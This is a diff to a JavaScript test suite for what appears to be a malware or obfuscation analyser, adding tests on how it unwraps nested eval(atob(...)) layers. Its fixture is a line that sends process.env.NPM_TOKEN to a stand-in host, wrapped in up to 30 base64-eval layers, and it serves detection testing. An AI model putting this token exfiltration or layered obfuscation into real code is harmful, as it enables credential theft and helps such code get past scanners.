@@ -56,15 +56,21 @@ describe("code run from strings", () => {
     expect(facts.obfuscations.map((o) => [o.technique, o.executed])).toEqual([["eval-dynamic", true]]);
   });
 
-  it("stops at a nesting depth (eval of eval of …)", async () => {
+  it("layers that only eval the next one are peeled, however many", async () => {
     let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
-    for (let i = 0; i < 8; i++) code = `eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
+    for (let i = 0; i < 30; i++) code = `eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
+    expect((await analyze({ "index.js": code })).flows).toHaveLength(1);
+  });
+
+  it("stops at a nesting depth (eval of eval of …, each layer with code of its own)", async () => {
+    let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
+    for (let i = 0; i < 8; i++) code = `var k = ${i}; eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
     const facts = await analyze({ "index.js": code });
     expect(facts.flows).toEqual([]);
     expect([...new Set(facts.obfuscations.map((o) => o.technique))]).toEqual(["eval-decoded"]);
     // Three layers down the same payload is still followed.
     let shallow = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
-    for (let i = 0; i < 3; i++) shallow = `eval(atob(${JSON.stringify(Buffer.from(shallow).toString("base64"))}));`;
+    for (let i = 0; i < 3; i++) shallow = `var k = ${i}; eval(atob(${JSON.stringify(Buffer.from(shallow).toString("base64"))}));`;
     expect((await analyze({ "index.js": shallow })).flows).toHaveLength(1);
   });
 
